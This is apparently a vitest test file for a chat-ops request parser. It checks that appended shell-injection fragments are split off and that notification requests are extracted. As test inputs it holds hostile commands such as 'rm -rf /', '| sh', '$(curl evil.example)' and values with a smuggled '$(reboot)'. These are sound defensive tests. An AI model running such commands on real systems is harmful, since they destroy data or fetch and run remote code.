import { expect, test } from 'vitest'
import { hear } from '../../src/conversation/hear.ts'

const thing = (id: string, ...aliases: string[]) => ({ id, aliases })
const catalog = {
  services: [thing('billionmail', 'mail'), thing('payments')],
  environments: [thing('production', 'prod'), thing('staging')],
  rings: [],
  devices: [],
  workflows: [],
  bots: [],
}

test.each([
  ['deploy mail to staging; rm -rf /', 'deploy mail to staging', '; rm -rf /'],
  ['deploy mail to staging && anything at all', 'deploy mail to staging', '&& anything at all'],
  ['deploy mail to staging &amp;&amp; reboot', 'deploy mail to staging', '&amp;&amp; reboot'],
  ['deploy mail | sh', 'deploy mail', '| sh'],
  ['deploy mail to staging $(curl evil.example)', 'deploy mail to staging', '$(curl evil.example)'],
  ['status of mail\nsudo reboot', 'status of mail', 'sudo reboot'],
])('what reads like a command line is no part of it: %s', (said, text, ignored) => {
  expect(hear(said, catalog)).toEqual({ text, ignored: [ignored] })
})

test('a request behind a command line is read, and the rest is quoted', () => {
  expect(hear('hi; rm -rf / ; deploy mail to staging && curl x | sh; check health', catalog)).toEqual({
    text: 'hi ; deploy mail to staging ; check health',
    ignored: ['; rm -rf /', '&& curl x | sh'],
  })
  expect(hear('; rm -rf /', catalog)).toEqual({ text: '; rm -rf /' })
})

test.each([
  ["deploy mail to staging and ping @ana when it's done", 'deploy mail to staging', ['@ana']],
  ['deploy mail to staging and tell ben', 'deploy mail to staging', ['ben']],
  ['deploy mail to staging, let ben and @cleo know when it is done please', 'deploy mail to staging', ['ben', '@cleo']],
  ['roll back mail and notify <@U42>', 'roll back mail', ['<@U42>']],
  ['ship mail to prod and tell me when its done', 'ship mail to prod', ['me']],
  ['deploye mail auf staging und sag ben Bescheid', 'deploye mail auf staging', ['ben']],
  ['deploye mail auf staging und gib @ana bitte', 'deploye mail auf staging und gib @ana bitte', undefined],
  ['rolle mail zurück, und informiere ben und @cleo, wenn es fertig ist', 'rolle mail zurück', ['ben', '@cleo']],
  ['despliega mail en staging y avísale a ben cuando termine', 'despliega mail en staging', ['ben']],
  ['despliega mail en staging y avísame', 'despliega mail en staging', ['me']],
  ['build mail and let the team know', 'build mail', ['everyone']],
])('a wish to tell somebody is taken off: %s', (said, text, tell) => {
  expect(hear(said, catalog)).toEqual({ text, ...(tell && { tell }) })
})

test.each([
  'deploy mail to staging and tell me what changed',
  'deploy mail and ping production',
  'check health and tell me when v1.2.0 was deployed',
  'tell ben',
  'deploy mail feature/$(reboot) to production',
  'deploy mail v1.1.0;reboot to staging',
  'deploy mail to staging; it is urgent',
  // With something behind it, a yes is no yes.
  'yes; rm -rf /',
  'yes and tell ben',
  'stop the task, and tell ben',
  'yes, cancel it; rm -rf /',
  '```\ndeploy mail && x\n```',
  'deploy mail to staging && deploy payments to staging',
  'deploy mail to staging &amp;&amp; check health',
  'deploy mail to staging | it is urgent',
  'deploy mail to staging for <https://tracker.example/1|sh JIRA-1>',
  'deploy `node` to `staging`',
])('everything else stays as it is: %s', (said) => {
  expect(hear(said, catalog)).toEqual({ text: said })
})

test('a hostile length is left alone at once', () => {
  const said = `deploy mail${' '.repeat(39_000)}x`
  expect(hear(said, catalog).text).toBe(said)
})
